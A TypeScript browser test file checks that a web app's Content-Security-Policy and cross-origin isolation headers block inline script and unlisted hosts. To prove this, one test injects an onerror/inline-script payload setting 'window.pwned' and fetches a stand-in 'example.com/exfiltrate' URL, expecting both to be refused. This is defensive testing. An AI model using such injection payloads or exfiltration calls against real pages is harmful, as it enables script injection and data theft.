/**
 * The Content-Security-Policy the app is served with, in force in Chromium: inline script and
 * connections to unlisted hosts are refused (and our test harness sees the refusal, so every
 * other test's `errors` would catch one), while the app itself runs without a single violation.
 */
import fs from 'node:fs';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, inject, it } from 'vitest';
import { ROOT } from '../support/paths';
import { launchChromium } from './support/chromium';
import { openApp, waitForModel } from './support/app';

const baseUrl = inject('baseUrl');
let browser: Browser;

beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(async () => {
  await browser.close();
});

function directives(csp: string): Map<string, string[]> {
  return new Map(
    csp
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((p) => p[0])
      .map(([name, ...values]) => [name!, values]),
  );
}

it('serves the page cross-origin isolated with a strict CSP, and writes the same headers for static hosts', async () => {
  const response = await fetch(baseUrl);
  const csp = directives(response.headers.get('content-security-policy') ?? '');
  expect(csp.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'", 'blob:']);
  expect(csp.get('object-src')).toEqual(["'none'"]);
  expect(csp.get('connect-src')?.[0]).toBe("'self'");
  expect(csp.get('connect-src')).not.toContain('*');
  expect(response.headers.get('cross-origin-opener-policy')).toBe('same-origin');
  expect(response.headers.get('cross-origin-embedder-policy')).toBe('credentialless');
  const staticHeaders = fs.readFileSync(path.join(ROOT, 'dist', '_headers'), 'utf8');
  expect(staticHeaders).toContain(`Content-Security-Policy: ${response.headers.get('content-security-policy')}`);
});

it('refuses inline script and unlisted hosts, and reports it; the app itself causes no violation', async () => {
  const { page, context, errors } = await openApp(browser, baseUrl, { device: 'wasm', serviceWorkers: 'allow' });
  try {
    await waitForModel(page);
    expect(errors).toEqual([]);
    expect(await page.evaluate(() => self.crossOriginIsolated)).toBe(true);
    const outcome = await page.evaluate(async () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.pwned = true" onload="window.pwned = true">');
      const script = document.createElement('script');
      script.textContent = 'window.pwned = true';
      document.body.append(script);
      let fetched = 'allowed';
      try {
        await fetch('https://example.com/exfiltrate');
      } catch {
        fetched = 'refused';
      }
      await new Promise((r) => setTimeout(r, 200));
      return { pwned: 'pwned' in window, fetched };
    });
    expect(outcome).toEqual({ pwned: false, fetched: 'refused' });
    await expect.poll(() => errors.filter((e) => e.startsWith('CSP:')).length).toBeGreaterThanOrEqual(2);
    expect(errors.some((e) => e.includes('example.com'))).toBe(true);
  } finally {
    await context.close();
  }
});
